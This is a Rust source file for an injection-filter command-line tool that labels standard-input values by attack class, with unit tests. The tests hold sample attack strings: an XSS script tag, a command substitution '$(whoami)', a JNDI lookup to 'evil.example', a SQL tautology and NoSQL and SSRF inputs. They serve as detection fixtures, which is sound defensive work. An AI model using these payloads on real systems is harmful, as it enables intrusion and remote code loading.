//! `portcullis scan`: the injection filter's verdict on values from standard input.

use portcullis::injection::{self, Class, ClassSet, Finding};
use std::io::{self, BufRead, Write};
use std::process::ExitCode;

/// How the command is called.
pub const USAGE: &str = "usage: portcullis scan [--jsonl] [--explain] [--classes CLASS,...] < VALUES

Reads one value a line, or with --jsonl one object a line with \"id\" and \"payload\", and prints one line each:
the class of attack (sqli, xss, path, cmdi, other) or none. --explain adds the rule and its score. --classes looks for
these only (sqli, xss, path, command, template, nosql, ldap, xxe, ssrf, or all); without it for the first five.";

/// Runs the command on `input`; `args` are what follows `scan`.
///
/// Exits 2 on an unknown option or a line that is not of the form asked for.
///
/// # Errors
/// Those of `input` and `output`.
pub fn run(args: &[String], input: impl BufRead, mut output: impl Write) -> io::Result<ExitCode> {
    let (mut jsonl, mut explain) = (false, false);
    let mut classes = ClassSet::USUAL;
    let mut args = args.iter();
    while let Some(arg) = args.next() {
        match arg.as_str() {
            "--classes" => match args.next().and_then(|names| named(names)) {
                Some(named) => classes = named,
                None => {
                    writeln!(output, "--classes needs names of classes\n{USAGE}")?;
                    return Ok(ExitCode::from(2));
                }
            },
            "--jsonl" => jsonl = true,
            "--explain" => explain = true,
            "--help" => {
                writeln!(output, "{USAGE}")?;
                return Ok(ExitCode::SUCCESS);
            }
            other => {
                writeln!(output, "unknown option {other}\n{USAGE}")?;
                return Ok(ExitCode::from(2));
            }
        }
    }
    for (number, line) in input.split(b'\n').enumerate() {
        let line = line?;
        if jsonl {
            if line.is_empty() {
                continue;
            }
            let Some((id, payload)) = labelled(&line) else {
                writeln!(output, "line {}: not an object with \"id\" and \"payload\"", number + 1)?;
                return Ok(ExitCode::from(2));
            };
            let finding = injection::scan(payload.as_bytes(), classes);
            let mut decision = serde_json::json!({ "id": id, "class": corpus_name(finding.as_ref()) });
            if let (true, Some(finding), Some(members)) = (explain, finding, decision.as_object_mut()) {
                members.insert("rule".into(), finding.rule.into());
                members.insert("score".into(), finding.score.into());
            }
            writeln!(output, "{decision}")?;
        } else {
            let value = line.strip_suffix(b"\r").unwrap_or(&line);
            let finding = injection::scan(value, classes);
            write!(output, "{}", corpus_name(finding.as_ref()))?;
            if let (true, Some(finding)) = (explain, finding) {
                write!(output, "\t{}\t{}", finding.rule, finding.score)?;
            }
            writeln!(output)?;
        }
    }
    output.flush()?;
    Ok(ExitCode::SUCCESS)
}

/// The classes of a list of names; None when one is none.
fn named(names: &str) -> Option<ClassSet> {
    if names == "all" {
        return Some(ClassSet::ALL);
    }
    names.split(',').map(|name| Class::ALL.into_iter().find(|class| class.name() == name)).collect()
}

/// The id and the payload of a line of labelled values; the id may be a string or a number.
fn labelled(line: &[u8]) -> Option<(serde_json::Value, String)> {
    let mut entry: serde_json::Value = serde_json::from_slice(line).ok()?;
    let members = entry.as_object_mut()?;
    let id = members.remove("id")?;
    match members.remove("payload")? {
        serde_json::Value::String(payload) => Some((id, payload)),
        _ => None,
    }
}

/// The class as labelled collections of attacks name it.
fn corpus_name(finding: Option<&Finding>) -> &'static str {
    match finding.map(|finding| finding.class) {
        None => "none",
        Some(Class::Command) => "cmdi",
        Some(Class::Template) => "other",
        Some(class) => class.name(),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn output_of(args: &[&str], input: &str) -> String {
        let args: Vec<String> = args.iter().map(|&arg| arg.to_owned()).collect();
        let mut output = Vec::new();
        run(&args, input.as_bytes(), &mut output).unwrap();
        String::from_utf8(output).unwrap()
    }

    #[test]
    fn prints_a_class_for_every_line() {
        assert_eq!(output_of(&[], "hello\n<script>alert(7)</script>\r\n$(whoami)\n"), "none\nxss\ncmdi\n");
        assert_eq!(output_of(&["--explain"], "${jndi:ldap://evil.example/a}\n"), "other\ttemplate-lookup\t9\n");
    }

    #[test]
    fn looks_for_the_classes_that_are_asked_for() {
        let input = "user[$ne]\nhttp://127.0.0.1/\nx' or 'a'='a\n";
        assert_eq!(output_of(&[], input), "none\nnone\nsqli\n");
        assert_eq!(output_of(&["--classes", "nosql,ssrf"], input), "nosql\nssrf\nnone\n");
        assert_eq!(output_of(&["--classes", "all"], input), "nosql\nssrf\nsqli\n");
        assert!(output_of(&["--classes", "nosqli"], input).starts_with("--classes needs names of classes\n"));
    }

    #[test]
    fn keeps_the_id_of_every_labelled_payload() {
        let input = "{\"id\":\"a\",\"payload\":\"x' or 'a'='a\"}\n{\"id\":7,\"payload\":\"O'Brien\"}\n";
        assert_eq!(
            output_of(&["--jsonl"], input),
            "{\"class\":\"sqli\",\"id\":\"a\"}\n{\"class\":\"none\",\"id\":7}\n"
        );
    }

    #[test]
    fn says_which_line_it_cannot_read() {
        assert_eq!(output_of(&["--jsonl"], "{}\n"), "line 1: not an object with \"id\" and \"payload\"\n");
        assert!(output_of(&["--what"], "").starts_with("unknown option --what\n"));
    }
}
